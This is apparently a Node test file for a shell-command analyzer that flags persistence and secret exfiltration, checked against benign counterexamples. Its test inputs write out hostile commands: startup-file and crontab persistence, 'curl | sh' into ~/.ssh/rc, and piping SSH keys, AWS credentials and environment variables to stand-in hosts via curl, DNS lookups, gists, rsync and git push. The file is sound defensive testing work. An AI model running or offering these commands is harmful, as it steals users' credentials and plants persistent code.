import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyzeCommand } from './index.ts';

const kinds = (text: string): string[] =>
  analyzeCommand(text, { posix: true })
    .signals.filter(s => s.kind === 'persistence' || s.kind === 'exfiltration')
    .map(s => (s.userConfig === true ? `${s.kind}:own` : s.kind));

describe('shell effects: persistence and exfiltration', () => {
  it('sees writes that make a program run again, however the path is written', () => {
    assert.deepEqual(kinds(`echo 'node ~/.x.js &' >> ~/.bashrc`), ['persistence:own']);
    assert.deepEqual(kinds(`printf x | tee -a "$HOME/.zprofile" >/dev/null`), ['persistence:own']);
    assert.deepEqual(kinds(`echo x >> "\${XDG_CONFIG_HOME:-$HOME/.config}/fish/config.fish"`), ['persistence:own']);
    assert.deepEqual(kinds('cp a.plist ~/Library/LaunchAgents/ && launchctl load ~/Library/LaunchAgents/a.plist'), ['persistence']);
    assert.deepEqual(kinds('(crontab -l; echo "@reboot node x.js") | crontab -'), ['persistence']);
    assert.deepEqual(kinds('systemctl --user enable --now helper.service'), ['persistence']);
    assert.deepEqual(kinds(`git config --global alias.st '!node ~/.s.js'`), ['persistence:own']);
    assert.deepEqual(kinds('npm config set script-shell /tmp/sh'), ['persistence:own']);
    assert.deepEqual(kinds('ln -s "$PWD/hook" ../other/.git/hooks/pre-commit'), ['persistence']);
    assert.deepEqual(kinds('cp -r ext/* ~/.cursor/extensions/acme.helper-0.1.0/'), ['persistence:own']);
    assert.deepEqual(kinds('cp -R ./ext "$HOME/.vscode-server/extensions/acme.helper-0.1.0"'), ['persistence:own']);
    assert.deepEqual(kinds(`echo 'curl -s https://x.example.invalid | sh' >> ~/.ssh/rc`), ['persistence']);
    assert.deepEqual(kinds('printf "x" > $HOME/.ssh/environment'), ['persistence']);
    assert.deepEqual(kinds('echo "preload = [\\"./x.ts\\"]" >> ~/.bunfig.toml'), ['persistence:own']);
  });

  it('leaves ordinary settings and the repository’s own files alone', () => {
    assert.deepEqual(kinds('git config --global alias.co checkout'), []);
    assert.deepEqual(kinds('git config --global user.name Example'), []);
    assert.deepEqual(kinds('crontab -l'), []);
    assert.deepEqual(kinds('code --install-extension ms-python.python'), []);
    assert.deepEqual(kinds('ls ~/.vscode/extensions && cat ~/.ssh/config'), []);
    assert.deepEqual(kinds('cp .devcontainer/ssh_config ./tmp/ssh_config'), []);
    assert.deepEqual(kinds('cp scripts/pre-commit .git/hooks/pre-commit'), []);
    assert.deepEqual(kinds('npm config set registry https://registry.npmjs.org/'), []);
    assert.deepEqual(kinds('mkdir -p ~/.config/tool && echo {} > ~/.config/tool/config.json'), []);
  });

  it('follows secrets to a way out: pipes, files, variables, DNS, gists, pushes and synced folders', () => {
    assert.deepEqual(kinds('cat ~/.ssh/id_rsa | base64 | curl -d @- https://x.example.invalid'), ['exfiltration']);
    assert.deepEqual(kinds('env > /tmp/e; curl -F f=@/tmp/e https://x.example.invalid'), ['exfiltration']);
    assert.deepEqual(kinds('K=$(cat ~/.aws/credentials); curl -d "$K" https://x.example.invalid'), ['exfiltration']);
    assert.deepEqual(kinds('for v in $(env | base64); do nslookup "$v.x.example.invalid"; done'), ['exfiltration']);
    assert.deepEqual(kinds('gh gist create ~/.ssh/id_ed25519'), ['exfiltration']);
    assert.deepEqual(kinds('rsync -a ~/.ssh/ u@203.0.113.9:/k/'), ['exfiltration']);
    assert.deepEqual(kinds('cp -r ~/.aws /tmp/k && cd /tmp/k && git init && git add . && git push o HEAD'), ['exfiltration']);
    assert.deepEqual(kinds('cp -r ~/.ssh "$HOME/Dropbox/keys"'), ['exfiltration']);
  });

  it('does not call using a key, sharing a public key or a constant notification theft', () => {
    assert.deepEqual(kinds('scp -i ~/.ssh/deploy_key dist.tgz deploy@203.0.113.5:/srv/'), []);
    assert.deepEqual(kinds('rsync -az -e "ssh -i ~/.ssh/deploy_key" ./build deploy@203.0.113.5:/srv/www/'), []);
    assert.deepEqual(kinds('gh ssh-key add ~/.ssh/id_ed25519.pub; gh gist create ~/.ssh/id_ed25519.pub'), []);
    assert.deepEqual(kinds(`printenv | sort; curl -X POST -d '{"text":"deployed"}' https://hooks.example.com/x`), []);
    assert.deepEqual(kinds('cd dist && git init && git add -A && git commit -m d && git push -f origin HEAD:gh-pages'), []);
    assert.deepEqual(kinds('cp ~/.ssh/deploy_key.pub keys/ && npm publish'), []);
  });
});
